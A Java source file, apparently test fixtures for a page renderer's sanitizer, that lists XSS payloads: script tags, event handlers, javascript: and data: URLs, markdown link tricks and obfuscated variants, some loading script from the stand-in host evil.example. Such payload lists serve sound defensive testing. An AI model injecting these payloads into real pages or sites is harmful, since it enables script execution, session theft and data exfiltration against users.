package io.lida.proof.page;

import java.util.List;
import java.util.stream.Stream;

/** Fifty texts that would run a script on a page that let them. */
final class Hostile {
  static final List<String> TEXTS =
      Stream.of(
              "<script>alert(1)</script>",
              "<ScRiPt>alert(1)</sCrIpT>",
              "<script src=//evil.example/x.js></script>",
              "<script type=module>import('//evil.example/x.js')</script>",
              "<img src=x onerror=alert(1)>",
              "<img src=x onerror=\"alert(1)\"//",
              "<IMG SRC=javascript:alert(1)>",
              "<img srcset=x onerror=alert(1)>",
              "<svg onload=alert(1)>",
              "<svg><script>alert(1)</script></svg>",
              "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
              "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
              "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
              "<iframe src=javascript:alert(1)></iframe>",
              "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
              "<object data=javascript:alert(1)></object>",
              "<embed src=javascript:alert(1)>",
              "<base href=//evil.example/>",
              "<link rel=stylesheet href=//evil.example/x.css>",
              "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
              "<style>*{background:url(//evil.example/x)}</style>",
              "<div style=\"background:url(//evil.example/x)\">x</div>",
              "<body onload=alert(1)>",
              "<input autofocus onfocus=alert(1)>",
              "<select autofocus onfocus=alert(1)>",
              "<textarea autofocus onfocus=alert(1)>",
              "<details open ontoggle=alert(1)>",
              "<video><source onerror=alert(1)>",
              "<audio src=x onerror=alert(1)>",
              "<marquee onstart=alert(1)>",
              "<form action=javascript:alert(1)><button>x</button></form>",
              "<button formaction=javascript:alert(1) autofocus>x</button>",
              "<a href=javascript:alert(1)>x</a>",
              "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
              "<a href=data:text/html,<script>alert(1)</script>>x</a>",
              "[x](javascript:alert(1))",
              "[x](JaVaScRiPt:alert(1))",
              "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
              "[x](vbscript:alert(1))",
              "![x](https://evil.example/x.png)",
              "![x](javascript:alert(1))",
              "<https://evil.example/\" onmouseover=\"alert(1)>",
              "[x]: javascript:alert(1)\n\n[x]",
              "`<img src=x onerror=alert(1)>`",
              "```html\n<script>alert(1)</script>\n```",
              "\"><img src=x onerror=alert(1)>",
              "'-alert(1)-'",
              "${alert(1)} {{constructor.constructor('alert(1)')()}}",
              "</title></textarea></style></script><script>alert(1)</script>",
              "\u202e<script>alert(1)</script>\u0000<img/src=x/onerror=alert(1)>")
          .toList();

  private Hostile() {}
}
